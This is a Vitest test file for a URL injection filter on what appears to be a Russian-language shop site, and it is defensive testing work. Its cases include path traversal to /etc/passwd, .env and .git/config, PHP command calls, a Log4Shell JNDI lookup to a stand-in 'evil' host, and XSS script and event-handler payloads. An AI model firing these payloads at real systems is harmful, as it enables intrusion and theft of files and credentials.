import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { findInjection, INJECTION_BLOCKED_MESSAGE } from './security-filter';
import type { InjectionKind } from './security-filter';

interface FixtureLine {
  text: string;
  section: string;
}

/** Fixture lines; '#' starts a comment, "# @section name" starts a section. */
function readFixture(name: string): FixtureLine[] {
  const text = readFileSync(new URL(`../tests/fixtures/${name}`, import.meta.url), 'utf8');
  const lines: FixtureLine[] = [];
  let section = '';
  for (const raw of text.split('\n')) {
    const line = raw.replace(/\r$/, '');
    const directive = /^#\s*@section\s+(\S+)/.exec(line);
    if (directive) section = directive[1]!;
    if (line.trim() === '' || line.startsWith('#')) continue;
    lines.push({ text: line, section });
  }
  return lines;
}

const attacks = readFixture('attack-strings.txt');
const honest = readFixture('honest-urls.txt');

/** Characters a URL may carry as they are (RFC 3986), minus '&' and '#', which would cut the value. */
const RAW_QUERY_VALUE_RE = /^(?:[A-Za-z0-9\-._~!$'()*+,;=:@/?]|%[0-9A-Fa-f]{2})*$/;
const RAW_PATH_RE = /^(?:[A-Za-z0-9\-._~!$'()*+,;=:@/]|%[0-9A-Fa-f]{2})*$/;

/** The request targets one attack string is sent as. */
function attackTargets({ text, section }: FixtureLine): string[] {
  const once = encodeURIComponent(text);
  const targets = [`/search/?q=${once}`, `/catalog/woman/?sort=price_asc&q=${once}&PAGEN_1=2`];
  // Twice-encoding an already double-encoded line would need four decoding rounds.
  if (!/%25|%%[0-9a-f]{2}/i.test(text)) targets.push(`/search/?q=${encodeURIComponent(once)}`);
  if (RAW_QUERY_VALUE_RE.test(text)) targets.push(`/search/?q=${text}`);
  if (section === 'traversal' || section === 'system-path') {
    targets.push(`/media/${once}`);
    if (RAW_PATH_RE.test(text)) targets.push(`/media/${text}`);
  }
  return targets;
}

/** How Node hands over a raw (not percent-encoded) UTF-8 target: its bytes read as latin1. */
function asLatin1(target: string): string {
  return Buffer.from(target, 'utf8').toString('latin1');
}

describe('fixtures', () => {
  it('have enough lines', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(120);
    expect(honest.length).toBeGreaterThanOrEqual(220);
  });

  it('detects every attack string in every encoding', () => {
    const failures: string[] = [];
    for (const attack of attacks) {
      for (const target of attackTargets(attack)) {
        if (findInjection(target) === null) failures.push(`[${attack.section}] ${attack.text}  ->  ${target}`);
      }
    }
    expect(failures).toEqual([]);
  });

  it('reports each section as its kind', () => {
    const kinds: readonly string[] = ['traversal', 'system-path', 'script-function', 'script-tag', 'scheme', 'event-handler'];
    const wrong: string[] = [];
    for (const { text, section } of attacks) {
      if (!kinds.includes(section)) continue;
      const found = findInjection(`/search/?q=${encodeURIComponent(text)}`);
      if (found !== section) wrong.push(`[${section}] reported as ${String(found)}: ${text}`);
    }
    expect(wrong).toEqual([]);
  });

  it('lets every honest URL through', () => {
    const failures: string[] = [];
    for (const { text } of honest) {
      for (const target of new Set([text, asLatin1(text)])) {
        const kind = findInjection(target);
        if (kind !== null) failures.push(`${kind}: ${target}`);
      }
    }
    expect(failures).toEqual([]);
  });
});

describe('findInjection by kind', () => {
  const cases: Record<InjectionKind, string[]> = {
    traversal: [
      '/media/../../etc/app.js',
      '/static/..%2f..%2fpackage.json',
      '/static/%2e%2e%2fsecret',
      '/static/%252e%252e%252fsecret',
      '/static/..%c0%afsecret',
      '/static/..%5csecret',
      '/img?src=../../config.json',
      '/img?src=..%5C..%5Cconfig.json',
      '/img?src=%252E%252E%252Fconfig.json',
      '/catalog/..',
      '/admin/..;/x',
      '/?file=....//....//config',
    ],
    'system-path': [
      '/etc/passwd',
      '/?file=%2Fetc%2Fpasswd',
      '/?file=/proc/self/environ',
      '/?f=c:%5Cwindows%5Cwin.ini',
      '/?f=C:/Windows/System32/',
      '/?cmd=/bin/sh',
      '/?f=boot.ini',
      '/.env',
      '/.git/config',
      '/?u=file:///etc/hosts',
    ],
    'script-function': [
      '/?q=eval(1)',
      '/?q=EVAL%28base64_decode%28%24x%29%29',
      '/?q=base64_decode%20(%22eA%3D%3D%22)',
      '/?q=system(%27id%27)',
      '/?q=shell_exec(%22ls%22)',
      '/?q=passthru(%27id%27)',
      '/?q=phpinfo()',
      '/?q=assert(%24_GET%5B1%5D)',
      '/?q=%3C%3Fphp%20echo%201%3B',
      '/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D',
      '/?q=%7B%7B7*7%7D%7D',
      '/?page=php://filter/resource=index',
    ],
    'script-tag': [
      '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
      '/?q=%3CSCRIPT%20src=//evil%3E',
      '/?q=%253Cscript%253E',
      '/?q=%26lt%3Bscript%26gt%3B',
      '/?q=%26%23x3c%3Bscript',
      '/?q=%26%2360%3Bscript',
      '/?q=%EF%BC%9Cscript%EF%BC%9E',
      '/?q=%3C%2Fscript%3E',
      '/%3Cscript%3E/',
      '/?q=%3Ciframe%20src=//evil.example%3E',
    ],
    scheme: [
      '/?url=javascript:alert(1)',
      '/?url=JavaScript%3Aalert(1)',
      '/?url=java%09script:alert(1)',
      '/?url=java%26%23x09%3Bscript%3Aalert(1)',
      '/?url=vbscript:msgbox(1)',
      '/?url=data:text/html;base64,PHNjcmlwdD4=',
      '/?url=data%3Atext%2Fhtml%2C%3Cb%3E',
      '/?url=data:,hello',
      '/?url=data: image/svg%2Bxml;base64,AAAA',
    ],
    'event-handler': [
      '/?q=%3Cimg%20src=x%20onerror=alert(1)%3E',
      '/?q=%3Csvg/onload=alert(1)%3E',
      '/?q=x%22%20onmouseover=%22alert(1)',
      '/?q=onload%20=alert(1)',
      '/?q=%3Cimg%09src=x%09onerror=alert(1)%3E',
      '/?q=%3Cbody%20ONLOAD=alert(1)%3E',
      '/?q=%3Cx%20onfoo=alert(1)%3E',
    ],
  };
  for (const [kind, targets] of Object.entries(cases)) {
    it(`reports ${kind}`, () => {
      const wrong = targets.map((t) => [t, findInjection(t)] as const).filter(([, found]) => found !== kind);
      expect(wrong).toEqual([]);
    });
  }
});

describe('findInjection on honest look-alikes', () => {
  it('tells the data: scheme from the word data', () => {
    expect(findInjection('/?q=data:+2024')).toBeNull();
    expect(findInjection('/?q=data%3A%202024')).toBeNull();
    expect(findInjection('/?q=metadata:text/html')).toBeNull();
    expect(findInjection('/?q=data:text/html,x')).toBe('scheme');
  });
  it('tells a .. path step from dots in text', () => {
    expect(findInjection('/?q=пальто...')).toBeNull();
    expect(findInjection('/?q=пальто.../')).toBeNull();
    expect(findInjection('/media/...jpg')).toBeNull();
    expect(findInjection('/?q=../')).toBe('traversal');
    expect(findInjection('/a/../b')).toBe('traversal');
  });
  it('tells event handlers from words starting with on', () => {
    for (const t of ['/?one=1', '/?online=yes', '/?only=1', '/?q=ON+SALE', '/?q=onion=1', '/?q=condone=1']) {
      expect(findInjection(t)).toBeNull();
    }
    expect(findInjection('/?onload=alert(1)')).toBe('event-handler');
  });
  it('tells calls from words', () => {
    expect(findInjection('/?q=evaluation')).toBeNull();
    expect(findInjection('/?q=medieval(style)')).toBeNull();
    expect(findInjection('/?q=system+(black)')).toBeNull();
    expect(findInjection('/?q=system+(%22id%22)')).toBe('script-function');
  });
});

describe('findInjection robustness', () => {
  it('does not throw on malformed or odd input', () => {
    const odd = [
      '',
      '%',
      '%%',
      '%%%',
      '/%',
      '/%2',
      '/%zz',
      '/%G0',
      '/?%',
      '/?q=%',
      '/?q=%E0%A4',
      '/?q=%C0',
      '/?q=%FF%FE%FD',
      '/?q=%F8%80%80%80%AE',
      '/?q=%ud800',
      '/?q=%u',
      '/?q=%uZZZZ',
      '/?q=%u12',
      '/?q=\ud800',
      '/?q=&#99999999999;',
      '/?q=&#x110000;',
      '/?q=&#xD800;',
      '/?q=\\u{110000}',
      '/?=',
      '/?&&&',
      '/?a=b=c',
      '?',
      '/\u0000',
      '/?q=%00',
      '/?q=%25%25%25',
      '/?q=%25',
      `/?q=${'%'.repeat(5000)}`,
      `/?q=${'%E0%A4'.repeat(2000)}`,
      `/${'../'.repeat(3000)}`,
    ];
    for (const target of odd) expect(() => findInjection(target)).not.toThrow();
  });
  it('lets a stray % through', () => {
    expect(findInjection('/search/?q=100% шерсть')).toBeNull();
    expect(findInjection('/search/?q=100%')).toBeNull();
    expect(findInjection('/search/?q=%zz%')).toBeNull();
  });
  it('stops after three decoding rounds', () => {
    const once = encodeURIComponent('<script>');
    expect(findInjection(`/?q=${encodeURIComponent(encodeURIComponent(once))}`)).toBe('script-tag');
    expect(findInjection(`/?q=${encodeURIComponent(encodeURIComponent(encodeURIComponent(once)))}`)).toBeNull();
  });
  it('is fast on long targets', () => {
    const long = `/catalog/woman/?${Array.from({ length: 200 }, (_, i) => `p${i}=%3C${'a'.repeat(20)}%20on${i}`).join('&')}`;
    const started = performance.now();
    for (let i = 0; i < 20; i++) findInjection(long);
    expect(performance.now() - started).toBeLessThan(2000);
  });
});

describe('INJECTION_BLOCKED_MESSAGE', () => {
  it('is the SPEC §8 text', () => {
    expect(INJECTION_BLOCKED_MESSAGE).toBe('Доступ запрещен: обнаружена попытка внедрения вредоносного кода');
  });
});
